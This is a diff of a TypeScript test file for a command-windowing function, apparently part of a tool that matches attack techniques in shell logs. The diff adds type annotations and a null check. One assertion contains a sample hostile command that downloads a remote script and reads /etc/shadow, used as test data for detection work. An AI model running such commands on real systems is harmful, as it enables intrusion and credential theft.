@@ -1,8 +1,8 @@
 import assert from 'node:assert/strict'
 import {describe, it} from 'node:test'
 
-import {splitSimpleCommands} from '../../dist/logs/simple-commands.js'
-import {matchWindows} from '../../dist/ttp/match-windows.js'
+import {splitSimpleCommands} from '../../src/logs/simple-commands.js'
+import {type MatchWindows, matchWindows} from '../../src/ttp/match-windows.js'
 
 const CAP = 4096
 
@@ -10,7 +10,7 @@ const CAP = 4096
  * Windows start in order, are at most `cap` long and cover no character more than six times; every run of
  * whole simple commands spanning at most cap / 2 lies whole in one.
  */
-function assertWellFormed(text, result, cap = CAP) {
+function assertWellFormed(text: string, result: MatchWindows, cap = CAP): void {
   let previousStart = -1
   let total = 0
   for (const {end, start} of result.windows) {
@@ -55,7 +55,9 @@ describe('matchWindows', () => {
     const result = matchWindows(text, CAP)
     assert.equal(result.cutCommands, 0)
     assert.equal(result.unexamined, 0)
-    assert.ok(text.slice(result.windows.at(-1).start, result.windows.at(-1).end).endsWith('wget http://203.0.113.9/x.sh; cat /etc/shadow'))
+    const last = result.windows.at(-1)
+    assert.ok(last)
+    assert.ok(text.slice(last.start, last.end).endsWith('wget http://203.0.113.9/x.sh; cat /etc/shadow'))
     assertWellFormed(text, result)
   })
 
@@ -95,7 +97,7 @@ describe('matchWindows', () => {
 
   it('keeps runs of up to half the cap together on random texts', () => {
     let state = 7
-    const rand = (n) => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
+    const rand = (n: number): number => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
     const pieces = ['a', 'id', ';', '|', ' ', '&&', "'", '"', '$(', ')', '\\', 'x'.repeat(300), 'y'.repeat(3000), 'z'.repeat(5000), '\n']
     for (let round = 0; round < 30; round++) {
       let text = ''
